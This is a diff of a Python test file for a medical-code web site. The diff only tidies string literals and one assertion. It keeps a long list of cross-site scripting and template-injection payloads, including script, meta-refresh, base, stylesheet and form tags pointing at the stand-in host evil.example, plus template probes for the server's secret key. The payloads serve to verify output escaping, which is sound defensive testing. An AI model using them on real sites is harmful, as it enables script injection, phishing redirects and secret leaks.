@@ -115,7 +115,7 @@ def test_a_refused_report_shows_nothing_of_the_work(site: Client, team: Team):
 
 _CALL = "alert(1)"
 PAYLOADS = [
-    f"<script>{_CALL}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<img src=x onerror={_CALL}>",
+    f"<script>{_CALL}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<img src=x onerror={_CALL}>",
     f"<svg onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>", f"\"><script>{_CALL}</script>",
     f"'><img src=x onerror={_CALL}>", f"</p><script>{_CALL}</script>", f"</title><script>{_CALL}</script>",
     f"</textarea><script>{_CALL}</script>", f"</style><script>{_CALL}</script>", f"--><script>{_CALL}</script>",
@@ -126,7 +126,7 @@ PAYLOADS = [
     f"<audio src=x onerror={_CALL}>", f"<details open ontoggle={_CALL}>", f"<marquee onstart={_CALL}>",
     f"<math><mi xlink:href=javascript:{_CALL}>x</mi></math>", "<meta http-equiv=refresh content=0;url=//evil.example>",
     "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
-    f"<form action=//evil.example><button>x</button></form>", f"\" onmouseover=\"{_CALL}", f"' onmouseover='{_CALL}",
+    "<form action=//evil.example><button>x</button></form>", f"\" onmouseover=\"{_CALL}", f"' onmouseover='{_CALL}",
     f"` onmouseover=`{_CALL}", f"&lt;script&gt;{_CALL}&lt;/script&gt;", f"&#60;script&#62;{_CALL}&#60;/script&#62;",
     f"<scr<script>ipt>{_CALL}</scr</script>ipt>", f"<img/src=x/onerror={_CALL}>", f"<svg/onload={_CALL}>",
     "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include 'admin/base.html' %}", "${7*7}", "<%= 7*7 %>",
@@ -161,7 +161,7 @@ def test_texts_stay_texts_in_every_section(site: Client, team: Team):
         explanation = published(team, "Z53.9", **full_of(payload))
         root = html.fromstring(site.get("/icd-10-cm/Z53.9").content.decode())
         assert not root.xpath(_ACTIVE), payload
-        assert not [name for name in root.xpath("//@*[starts-with(name(), 'on')]")], payload
+        assert not list(root.xpath("//@*[starts-with(name(), 'on')]")), payload
         schemes = {str(href).partition(":")[0] for href in root.xpath("//a/@href") if ":" in str(href)}
         assert schemes <= {"https"}, payload
         shown = " ".join(root.xpath("//main")[0].text_content().split())
